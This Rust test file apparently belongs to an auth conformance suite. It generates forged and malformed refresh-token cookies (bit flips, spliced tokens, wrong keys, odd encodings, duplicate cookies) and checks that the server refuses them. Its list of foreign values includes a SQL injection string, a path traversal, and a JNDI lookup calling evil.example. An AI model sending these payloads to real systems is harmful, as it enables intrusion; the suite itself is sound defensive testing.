//! Forged refresh tokens, and cookies that are not to be read as one.
//!
//! A token is `base64url(kid:1 ‖ session:16 ‖ secret:16 ‖ generation:4 ‖ tag:32)`. What is sealed with
//! the right key and names another generation is no forgery but an old token; the conformance tests
//! have those.

use std::collections::HashSet;

use auth_conformance::contract::Settings;
use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use bytes::Bytes;
use hmac::{Hmac, KeyInit, Mac};
use http::Request;
use http_body_util::Full;
use sha2::{Digest, Sha256};

use super::answer::Answer;
use super::jwt::hexadecimal;
use super::table::Forged;
use super::world::{People, credentials, post, with, with_cookie};

const LABEL: &[u8] = b"auth-core refresh token 1\0";
const REGIONS: [(&str, std::ops::Range<usize>); 5] =
    [("key id", 0..1), ("session id", 1..17), ("secret", 17..33), ("generation", 33..37), ("tag", 37..69)];

pub(crate) fn table(people: &People) -> Vec<Forged> {
    let values = [
        spoiled(people),
        put_together(people),
        sealed_by_others(people),
        encoded_otherwise(people),
        wrapped(people),
        foreign(people),
    ];
    let forged = values.into_iter().flatten().flat_map(|(what, value)| {
        [
            Forged::new(format!("{what}, to refresh"), cookie("/refresh", &value), Answer::bad_cookie()),
            // It logs nobody out, and says nothing of that.
            Forged::new(format!("{what}, to log out"), cookie("/logout", &value), Answer::logged_out()),
        ]
    });
    forged.chain(repeated(people)).chain(not_the_cookie(people)).collect()
}

fn cookie(path: &str, value: &[u8]) -> Request<Full<Bytes>> {
    with(post(path, ""), "cookie", [b"refresh_token=", value].concat())
}

type Value = (String, Vec<u8>);

fn bytes_of(token: &str) -> Vec<u8> {
    let bytes = URL_SAFE_NO_PAD.decode(token).unwrap();
    assert_eq!(bytes.len(), 69);
    bytes
}

fn text(bytes: &[u8]) -> Vec<u8> {
    URL_SAFE_NO_PAD.encode(bytes).into_bytes()
}

/// The admin's token with bits turned in each region.
fn spoiled(people: &People) -> Vec<Value> {
    let good = bytes_of(&people.admin.refresh);
    let mut values = Vec::new();
    for (region, range) in REGIONS {
        for at in [range.start, usize::midpoint(range.start, range.end), range.end - 1] {
            for bit in [0x01, 0x10, 0x80] {
                let mut bytes = good.clone();
                bytes[at] ^= bit;
                values.push((format!("bit {bit:#x} of byte {at}, the {region}"), text(&bytes)));
            }
        }
        for (how, byte) in [("zeros", 0), ("ones", 0xff)] {
            let mut bytes = good.clone();
            bytes[range.clone()].fill(byte);
            values.push((format!("{how} for the {region}"), text(&bytes)));
        }
    }
    // The generation is zero already, and a region of one byte has one place for a bit.
    values.retain(|(_, value)| *value != text(&good));
    distinct(values)
}

/// Each value once, in its first place.
fn distinct(values: Vec<Value>) -> Vec<Value> {
    let mut seen = HashSet::new();
    values.into_iter().filter(|(_, value)| seen.insert(value.clone())).collect()
}

/// Regions of two good tokens, put together.
fn put_together(people: &People) -> Vec<Value> {
    let [admin, eve] = [&people.admin.refresh, &people.eve.refresh].map(|token| bytes_of(token));
    let mut values = Vec::new();
    // The key id is the same in both, and so is the generation.
    for (region, range) in [&REGIONS[1], &REGIONS[2], &REGIONS[4]] {
        for (whose, base, other) in [("admin", &admin, &eve), ("user", &eve, &admin)] {
            let mut bytes = base.clone();
            bytes[range.clone()].copy_from_slice(&other[range.clone()]);
            values.push((format!("the {whose}'s token with the other's {region}"), text(&bytes)));
        }
    }
    values
}

/// Whole and well-formed, but not sealed by us.
fn sealed_by_others(people: &People) -> Vec<Value> {
    let good = bytes_of(&people.admin.refresh);
    let sealed = |key: &[u8], label: &[u8], body: &[u8]| {
        let mac = Hmac::<Sha256>::new_from_slice(key).unwrap().chain_update(label).chain_update(body);
        text(&[body, &mac.finalize().into_bytes()].concat())
    };
    let refresh = Settings::REFRESH_SECRET.as_bytes();
    let body = &good[..37];
    let mut next = body.to_vec();
    next[36] += 1;
    let mut values = vec![
        ("sealed with the access secret".to_owned(), sealed(Settings::ACCESS_SECRET.as_bytes(), LABEL, body)),
        ("sealed with no key".to_owned(), sealed(b"", LABEL, body)),
        ("sealed without the label".to_owned(), sealed(refresh, b"", body)),
        ("sealed with another label".to_owned(), sealed(refresh, b"auth-core refresh token 2\0", body)),
        ("sealed with the label cut".to_owned(), sealed(refresh, &LABEL[..25], body)),
        ("the next generation, sealed with no key".to_owned(), sealed(b"", LABEL, &next)),
        ("a hash in place of the tag".to_owned(), text(&[body, &Sha256::digest(body)].concat())),
        ("the tag of the other end".to_owned(), text(&[&good[37..], body].concat())),
    ];
    // Sealed by us, as a thief of the key could do it: but of sessions that are not there, and secrets
    // that are not theirs.
    for (region, range) in [&REGIONS[0], &REGIONS[1], &REGIONS[2]] {
        for (how, byte) in [("zeros", 0), ("ones", 0xff)] {
            let mut body = body.to_vec();
            body[range.clone()].fill(byte);
            values
                .push((format!("sealed by us, with {how} for the {region}"), sealed(refresh, LABEL, &body)));
        }
    }
    let mut swapped = body.to_vec();
    swapped[17..33].copy_from_slice(&bytes_of(&people.eve.refresh)[17..33]);
    values.push(("sealed by us, with the user's secret".to_owned(), sealed(refresh, LABEL, &swapped)));
    values
}

/// The same bytes, written down in another way.
fn encoded_otherwise(people: &People) -> Vec<Value> {
    let token = &people.admin.refresh;
    let bytes = bytes_of(token);
    let percent = |byte: u8| format!("%{byte:02X}");
    let all_percent: String = token.bytes().map(percent).collect();
    let mut values = vec![
        ("hexadecimal".to_owned(), hexadecimal(&bytes)),
        ("base64 twice".to_owned(), URL_SAFE_NO_PAD.encode(token)),
        ("percent-encoded".to_owned(), all_percent),
        (
            "its first byte percent-encoded".to_owned(),
            format!("{}{}", percent(token.as_bytes()[0]), &token[1..]),
        ),
        (
            "its last byte percent-encoded".to_owned(),
            format!("{}{}", &token[..91], percent(token.as_bytes()[91])),
        ),
        ("in lower case".to_owned(), token.to_lowercase()),
        ("in upper case".to_owned(), token.to_uppercase()),
        ("backwards".to_owned(), token.chars().rev().collect()),
        ("twice".to_owned(), token.repeat(2)),
        ("padded".to_owned(), format!("{token}=")),
        ("padded twice".to_owned(), format!("{token}==")),
    ];
    // With a letter of the other alphabet in front, because a token may have none that tells the two apart.
    let other = STANDARD.encode(&bytes);
    for letter in ["+", "/"] {
        values
            .push((format!("in the other alphabet, {letter} in front"), format!("{letter}{}", &other[1..])));
    }
    for kept in [0, 1, 2, 4, 46, 88] {
        values.push((format!("its first {kept} characters"), token[..kept].to_owned()));
        values.push((format!("without its first {} characters", kept + 1), token[kept + 1..].to_owned()));
    }
    for more in ["A", "AA", "AAAA", "_"] {
        values.push((format!("with {more} behind it"), format!("{token}{more}")));
        values.push((format!("with {more} before it"), format!("{more}{token}")));
    }
    values.into_iter().map(|(what, value)| (format!("the token {what}"), value.into_bytes())).collect()
}

/// The token in something that would have to be taken off.
fn wrapped(people: &People) -> Vec<Value> {
    let token = people.admin.refresh.as_bytes();
    let mut values = Vec::new();
    for (before, behind) in [
        (&b"\""[..], &b"\""[..]),
        (b"'", b"'"),
        (b" ", b""),
        (b"\t", b""),
        (b"\"", b""),
        (b"", b"\""),
        (b"", b","),
        (b"", b"%20"),
        (b"", b"%00"),
        (b"", b"\\"),
        (b"=", b""),
        (b"", b"\xa0"),
        (b"\xef\xbb\xbf", b""),
        (b"", b"\xe2\x80\x8b"),
        (b"", b", refresh_token=x"),
        (b"s:", b".sig"),
        (b"j:", b""),
        (b"Bearer ", b""),
        (b"refresh_token=", b""),
        (b"", b" x"),
        (b"\xff", b""),
    ] {
        let shown = |bytes: &[u8]| bytes.escape_ascii().to_string();
        values.push((format!("{}<token>{}", shown(before), shown(behind)), [before, token, behind].concat()));
    }
    values
}

/// What never was a token of ours.
fn foreign(people: &People) -> Vec<Value> {
    let words = [
        "null",
        "undefined",
        "true",
        "0",
        "deleted",
        "[object Object]",
        "x",
        "' OR '1'='1",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/x}",
    ];
    let mut values: Vec<_> =
        words.into_iter().map(|word| (format!("the word {word}"), word.as_bytes().to_vec())).collect();
    values.push(("92 letters".to_owned(), b"A".repeat(92)));
    values.push(("92 of the last letter".to_owned(), b"_".repeat(92)));
    values.push(("8 KiB".to_owned(), b"A".repeat(8_192)));
    values.push(("the access token".to_owned(), people.admin.access.clone().into_bytes()));
    values.push(("the user's id".to_owned(), people.admin.user_id.clone().into_bytes()));
    values
}

/// Two cookies of the name, whichever of them is good, and wherever they stand.
fn repeated(people: &People) -> Vec<Forged> {
    let good = &people.admin.refresh;
    let login = credentials(super::world::EMAIL, "");
    let mut forged = Vec::new();
    for (what, other) in
        [("itself", good.as_str()), ("nothing", ""), ("x", "x"), ("another's", &people.eve.refresh)]
    {
        for path in ["/refresh", "/logout", "/login"] {
            let body = if path == "/login" { login.as_str() } else { "" };
            let requests = [
                (
                    "before",
                    with(post(path, body), "cookie", format!("refresh_token={other}; refresh_token={good}")),
                ),
                (
                    "far behind",
                    with(
                        post(path, body),
                        "cookie",
                        format!("refresh_token={good}; a=b; refresh_token={other}"),
                    ),
                ),
                ("in a header behind", with_cookie(with_cookie(post(path, body), good), other)),
                (
                    "among others in a header before",
                    with_cookie(
                        with(post(path, body), "cookie", format!("a=b; refresh_token={other}; c")),
                        good,
                    ),
                ),
            ];
            for (place, request) in requests {
                let expected = Answer::refused(400, "Cookie refresh_token must be sent only once");
                forged.push(Forged::new(format!("{what} {place}, to {path}"), request, expected));
            }
        }
    }
    forged
}

/// Cookies of other names, and tokens that are in no cookie.
fn not_the_cookie(people: &People) -> Vec<Forged> {
    let token = &people.admin.refresh;
    let cookies = [
        format!("Refresh_Token={token}"),
        format!("REFRESH_TOKEN={token}"),
        format!("refresh-token={token}"),
        format!("refreshToken={token}"),
        format!("refresh_token ={token}"),
        "refresh_token".to_owned(),
        format!("refresh_token:{token}"),
        format!("xrefresh_token={token}"),
        format!("refresh_token2={token}"),
        format!("__Host-refresh_token={token}"),
        format!("__Secure-refresh_token={token}"),
        format!("$refresh_token={token}"),
        format!("refresh%5Ftoken={token}"),
        format!("refresh_token[]={token}"),
        format!("refresh_token[0]={token}"),
        format!("\"refresh_token\"={token}"),
        format!("a=refresh_token={token}"),
        format!("a=b, refresh_token={token}"),
        format!("a=\"; refresh_token\"={token}"),
        format!("={token}"),
        token.clone(),
        String::new(),
        format!("refresh\u{200b}_token={token}"),
        format!("ｒefresh_token={token}"),
    ];
    let by_name = cookies.into_iter().map(|cookie| {
        let what = format!("the cookie {}", cookie.replace(token.as_str(), "<token>"));
        (what, with(post("/refresh", ""), "cookie", cookie))
    });
    let body = format!(r#"{{"refresh_token":"{token}","refreshToken":"{token}"}}"#);
    let elsewhere = [
        ("the token in the body", post("/refresh", &body)),
        (
            "the token in Authorization",
            with(post("/refresh", ""), "authorization", format!("Bearer {token}")),
        ),
        ("the token in Cookie2", with(post("/refresh", ""), "cookie2", format!("refresh_token={token}"))),
        (
            "the token in Set-Cookie",
            with(post("/refresh", ""), "set-cookie", format!("refresh_token={token}")),
        ),
        ("the token in a header of its own", with(post("/refresh", ""), "refresh_token", token)),
        ("the token in the query", post(&format!("/refresh?refresh_token={token}"), "")),
    ];
    by_name
        .chain(elsewhere.into_iter().map(|(what, request)| (what.to_owned(), request)))
        .map(|(what, request)| Forged::new(what, request, Answer::no_cookie()))
        .collect()
}
